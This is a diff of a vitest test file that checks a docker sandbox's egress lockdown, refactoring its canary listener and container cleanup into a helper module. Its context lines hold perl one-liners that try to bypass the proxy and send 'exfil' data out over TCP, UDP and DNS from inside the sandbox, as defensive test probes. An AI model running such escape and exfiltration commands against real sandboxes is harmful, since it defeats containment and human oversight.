@@ -1,4 +1,3 @@
-import { execFileSync } from 'node:child_process';
 import dgram from 'node:dgram';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import http from 'node:http';
@@ -6,6 +5,7 @@ import net from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { removeInstanceLeftovers, startCanary, type Canary } from './egress-world.js';
 import { lifecycleTestImage, makeSampleRepository, runJson } from './lifecycle-support.js';
 
 /**
@@ -24,9 +24,7 @@ let serverPort = 0;
 const requests: string[] = [];
 /** Every TCP connection the world's server accepted (a tunnel would open one even without a request). */
 let worldConnections = 0;
-let canary: net.Server;
-let canaryPort = 0;
-const canaryHits: string[] = [];
+let canary: Canary;
 let udpCanary: dgram.Socket;
 let udpPort = 0;
 const udpHits: string[] = [];
@@ -56,13 +54,7 @@ beforeAll(async () => {
   server.on('connection', () => (worldConnections += 1));
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
   serverPort = (server.address() as net.AddressInfo).port;
-  canary = net.createServer((socket) => {
-    canaryHits.push(String(socket.remoteAddress));
-    socket.on('error', () => undefined);
-    socket.destroy();
-  });
-  await new Promise<void>((resolve) => canary.listen(0, '0.0.0.0', resolve));
-  canaryPort = (canary.address() as net.AddressInfo).port;
+  canary = await startCanary();
   udpCanary = dgram.createSocket('udp4');
   udpCanary.on('message', (_msg, from) => udpHits.push(from.address));
   await new Promise<void>((resolve) => udpCanary.bind(0, '0.0.0.0', resolve));
@@ -73,15 +65,10 @@ afterAll(() => {
   server?.close();
   canary?.close();
   udpCanary?.close();
-  const docker = (...args: string[]) => execFileSync('docker', args, { encoding: 'utf8' }).trim();
-  const leftovers = docker('ps', '-aq', '--filter', `label=berth.instance=${instance}`);
-  const networks = docker('network', 'ls', '-q', '--filter', `label=berth.instance=${instance}`);
-  const images = docker('images', '-q', '--filter', `label=berth.instance=${instance}`);
-  if (leftovers !== '') docker('rm', '-f', ...leftovers.split('\n'));
-  if (images !== '') docker('rmi', '-f', ...new Set(images.split('\n')));
+  const { containers, networks } = removeInstanceLeftovers(instance);
   rmSync(work, { recursive: true, force: true });
   rmSync(repo.dir, { recursive: true, force: true });
-  expect(leftovers).toBe('');
+  expect(containers).toBe('');
   expect(networks).toBe('');
 });
 
@@ -177,7 +164,7 @@ describe('attacks on the lockdown from inside a sandbox (docker)', () => {
       // Around the proxy: without its variables, with NO_PROXY=*, direct TCP and UDP to the host.
       `echo "no-proxy-vars: $(env -u HTTP_PROXY -u http_proxy perl -MHTTP::Tiny -e '$r = HTTP::Tiny->new(timeout => 5)->get($ARGV[0]); print $r->{status}' http://denied.test:${p}/)"`,
       `echo "no-proxy-star: $(NO_PROXY='*' no_proxy='*' perl -MHTTP::Tiny -e '$r = HTTP::Tiny->new(timeout => 5)->get($ARGV[0]); print $r->{status}' http://denied.test:${p}/)"`,
-      `echo "direct-gateway: $(perl /tmp/raw.pl "$gw" ${canaryPort} 'hello\\r\\n')"`,
+      `echo "direct-gateway: $(perl /tmp/raw.pl "$gw" ${canary.port} 'hello\\r\\n')"`,
       `perl -MIO::Socket::INET -e 'for my $h (@ARGV) { my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => $h, PeerPort => ${udpPort}); print $s "exfil" if $s }' "$gw" 127.0.0.1`,
       `perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => $ARGV[0], PeerPort => 53); print $s "\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x05exfil\\x04test\\x00\\x00\\x01\\x00\\x01" if $s' "$gw"`,
       `echo "dns-exfil: $(getent hosts exfil-secret.allowed.test || echo unresolved)"`,
@@ -236,7 +223,7 @@ describe('attacks on the lockdown from inside a sandbox (docker)', () => {
     // Nothing got through to the world's server or to the canaries.
     expect(requests).toEqual([]);
     expect(worldConnections).toBe(0);
-    expect(canaryHits).toEqual([]);
+    expect(canary.hits).toEqual([]);
     await new Promise((r) => setTimeout(r, 500));
     expect(udpHits).toEqual([]);
   });
